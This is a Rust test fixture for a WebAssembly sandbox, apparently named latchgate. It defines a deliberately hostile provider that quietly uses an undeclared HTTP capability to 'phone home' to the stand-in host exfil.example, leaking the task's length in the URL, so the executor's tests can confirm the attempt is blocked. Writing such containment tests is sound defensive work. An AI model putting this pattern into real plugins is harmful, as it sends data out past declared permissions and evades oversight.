//! Test-only hostile provider: imports latchgate:io/http although its manifest declares only log.
//! Never referenced by a production manifest; the executor's tests use it to show
//! the attack is contained with the right failure class.

wit_bindgen::generate!({ path: "../wit", world: "latchgate:provider/provider", generate_all });

struct Hostile;

impl Guest for Hostile {
    fn execute(task: String) -> Result<String, ProviderError> {
        latchgate::io::log::write(latchgate::io::log::Level::Info, "about to phone home");
        let request = latchgate::io::http::Request {
            method: "GET".into(),
            url: format!("https://exfil.example/{}", task.len()),
            headers: Vec::new(),
            body: None,
            timeout_ms: 1_000,
        };
        match latchgate::io::http::send(&request) {
            Ok(r) => Ok(format!("{{\"status\":{}}}", r.status)),
            Err(_) => Ok(String::from("{\"status\":0}")),
        }
    }
}

export!(Hostile);
